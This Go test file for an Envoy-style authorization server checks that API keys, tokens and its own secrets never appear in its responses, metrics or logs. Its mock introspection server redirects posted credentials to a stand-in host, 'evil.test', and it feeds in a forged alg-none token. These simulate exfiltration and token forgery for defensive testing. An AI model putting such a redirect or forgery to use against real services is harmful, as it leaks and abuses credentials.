package server_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	authv3 "github.com/envoyproxy/go-control-plane/envoy/service/auth/v3"

	"github.com/kasbah-authz/kasbah/keys"
	"github.com/kasbah-authz/kasbah/keys/keystest"
	"github.com/kasbah-authz/kasbah/proto/config"
	configv1 "github.com/kasbah-authz/kasbah/proto/kasbah/config/v1"
	"github.com/kasbah-authz/kasbah/server/servertest"
)

const credentialsConfig = `server: {drain: 0s, shutdown_timeout: 5s, log: {level: debug, decisions: all}}
providers:
- name: partners
  api_key: {store: {file: api-keys.yaml}}
  from: [{header: x-api-key}, {query: key}, {cookie: key}, {websocket_protocol: key.}, {header: authorization, scheme: apikey}]
- name: opaque
  introspection: {url: 'http://issuer.test/introspect', client_id: kasbah, client_secret: {file: client-secret}, audiences: [api]}
  client: {private_addresses: true}
- name: broken
  introspection: {url: 'http://broken.test/echo', client_id: kasbah, client_secret: {file: client-secret}, authentication: post, audiences: [api]}
  client: {private_addresses: true}
  from: [{header: x-broken}]
- name: batch
  jwt: {issuer: batch, audiences: [api], algorithms: [HS256], secrets: [{algorithm: HS256, secret: {file: shared-secret}}]}
  from: [{header: x-batch}, {query: access_token}]
enforcers:
- name: nobody
  model: {file: model.conf}
  policy: {inline: "p, nobody, /never, GET"}
routes:
- {name: open, match: [{path: /open/}], authenticate: [partners, opaque, broken, batch], any_principal: true}
- {name: shut, match: [{path: /shut/}], authenticate: [partners, opaque, broken, batch], authorize: nobody}
`

// Credentials of every kind, good, bad and mistyped, in each place that a provider may look at, and the secrets of Kasbah itself are
// in nothing that comes out (THREATS a.6, a.13).
func TestCredentialsStayInside(t *testing.T) {
	issuer, _ := servertest.Issuer(t)
	echo := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Host != "broken.test" {
			issuer.ServeHTTP(w, r)
			return
		}
		_ = r.ParseForm()
		w.Header().Set("Location", "http://evil.test/?"+r.PostForm.Encode())
		w.WriteHeader(http.StatusFound)
		_, _ = fmt.Fprintln(w, r.PostForm)
	})
	key, id, err := keys.NewAPIKey("live", "")
	if err != nil {
		t.Fatal(err)
	}
	other, _, err := keys.NewAPIKey("live", id)
	if err != nil {
		t.Fatal(err)
	}
	list, err := config.FormatKeys(&configv1.ApiKeyFile{Keys: []*configv1.ApiKeyEntry{{Id: id, Owner: "acme", Secrets: []*configv1.ApiKeySecret{{Sha256: keys.HashAPIKey(key)}}}}})
	if err != nil {
		t.Fatal(err)
	}
	clientSecret, sharedSecret := secret+"-of-the-client", secret+"-that-is-shared-with-the-batch"
	s := servertest.Start(t, servertest.Options{Keys: servertest.Serve(t, echo), Files: map[string]string{
		servertest.ConfigFile: credentialsConfig, "model.conf": servertest.OrdersModel, "api-keys.yaml": string(list), "client-secret": clientSecret, "shared-secret": sharedSecret,
	}})
	good, elsewhere := issuer.Opaque(keystest.Claims{}), issuer.Opaque(keystest.Claims{Audience: []string{"elsewhere"}})
	credentials := []string{key, other, key[:len(key)-1] + "!", strings.ToUpper(key), good, elsewhere, "unknown-" + secret, issuer.Token(keystest.Claims{}), issuer.Forge(keystest.AlgNone, keystest.Claims{})}
	var out strings.Builder
	statuses := map[int]int{}
	for _, credential := range credentials {
		for place, request := range map[string]func(path string) *authv3.CheckRequest{
			"header": func(path string) *authv3.CheckRequest {
				return servertest.NewCheck("GET", path, servertest.Header("x-api-key", credential))
			},
			"bearer": func(path string) *authv3.CheckRequest {
				return servertest.NewCheck("GET", path, servertest.Bearer(credential))
			},
			"scheme": func(path string) *authv3.CheckRequest {
				return servertest.NewCheck("GET", path, servertest.Header("authorization", "ApiKey "+credential))
			},
			"broken server": func(path string) *authv3.CheckRequest {
				return servertest.NewCheck("GET", path, servertest.Header("x-broken", credential))
			},
			"batch": func(path string) *authv3.CheckRequest {
				return servertest.NewCheck("GET", path, servertest.Header("x-batch", credential))
			},
			"query": func(path string) *authv3.CheckRequest {
				return servertest.NewCheck("GET", path+"?a=1&key="+credential+"&access_token="+credential)
			},
			"cookie": func(path string) *authv3.CheckRequest {
				return servertest.NewCheck("GET", path, servertest.Header("cookie", "a=1; key="+credential))
			},
			"two places": func(path string) *authv3.CheckRequest {
				return servertest.NewCheck("GET", path+"?key="+credential, servertest.Header("x-api-key", credential))
			},
			"subprotocol": func(path string) *authv3.CheckRequest {
				return servertest.NewCheck("GET", path, servertest.Header("sec-websocket-protocol", "chat, key."+credential))
			},
		} {
			for _, path := range []string{"/open/1", "/shut/1", "/nowhere"} {
				response := s.Check(request(path))
				statuses[servertest.Status(response)]++
				fmt.Fprintln(&out, place, response)
			}
		}
	}
	for _, page := range []string{"/metrics", "/readyz", "/livez", "/"} {
		_, body := s.Admin(page)
		out.WriteString(body)
	}
	out.WriteString(s.Log.String())
	if statuses[200] < 5 || statuses[401] < 50 || statuses[403] < 5 || statuses[503] < 5 || strings.Count(out.String(), `"msg":"decision"`) < 200 {
		t.Fatalf("the answers are %v, and the test needs all of them", statuses)
	}
	hidden := []string{secret, key[len(key)-38:], other[len(other)-38:], keys.HashAPIKey(key), good, elsewhere}
	for _, token := range credentials[len(credentials)-2:] {
		hidden = append(hidden, strings.Split(token, ".")[1][:20])
	}
	for line := range strings.Lines(out.String()) {
		for _, text := range hidden {
			if strings.Contains(strings.ToLower(line), strings.ToLower(text)) {
				t.Fatalf("a credential came out: %.600s", line)
			}
		}
	}
}
